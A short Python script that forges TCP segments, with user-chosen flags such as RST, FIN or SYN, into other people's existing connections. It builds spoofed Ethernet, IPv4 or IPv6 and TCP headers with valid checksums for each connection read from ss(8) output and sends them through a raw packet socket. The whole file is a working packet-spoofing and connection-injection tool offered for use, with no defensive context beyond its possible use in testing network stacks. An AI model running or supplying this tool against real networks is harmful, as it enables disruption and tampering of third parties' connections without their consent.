#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""stranger.py INTERFACE MAC FLAGS...: forges TCP segments of other people's connections. Standard input
names the connections, a line each with source and destination as ss(8) prints them. For each one it
sends a segment per word of FLAGS, made of the letters F, S, R, P, A or "-" for none, to MAC, with any
sequence number. Prints how many segments it sent."""
import random
import socket
import struct
import sys

BITS = {"F": 1, "S": 2, "R": 4, "P": 8, "A": 16, "-": 0}


def endpoint(text):
    address, _, port = text.rpartition(":")
    address = address.strip("[]")
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    return family, socket.inet_pton(family, address), int(port)


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def segment(source, source_port, dest, dest_port, flags):
    sequence = random.getrandbits(32)

    def tcp(check):
        return struct.pack("!HHIIBBHHH", source_port, dest_port, sequence, 0, 5 << 4, flags, 1000,
                           check, 0)

    pseudo = source + dest + struct.pack("!II", 20, socket.IPPROTO_TCP)
    return tcp(checksum(pseudo + tcp(0)))


def packet(family, source, dest, payload):
    if family == socket.AF_INET6:
        return struct.pack("!IHBB", 6 << 28, len(payload), socket.IPPROTO_TCP, 64) + source + dest + payload

    def header(check):
        return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 0, 0, 64, socket.IPPROTO_TCP,
                           check) + source + dest

    return header(checksum(header(0))) + payload


def main():
    interface, mac = sys.argv[1], bytes.fromhex(sys.argv[2].replace(":", ""))
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((interface, 0))
    own = wire.getsockname()[4]
    sent = 0
    for line in sys.stdin:
        family, source, source_port = endpoint(line.split()[0])
        _, dest, dest_port = endpoint(line.split()[1])
        kind = b"\x86\xdd" if family == socket.AF_INET6 else b"\x08\x00"
        for word in sys.argv[3:]:
            flags = sum(BITS[letter] for letter in word)
            wire.send(mac + own + kind + packet(
                family, source, dest, segment(source, source_port, dest, dest_port, flags)))
            sent += 1
    print(sent)


main()
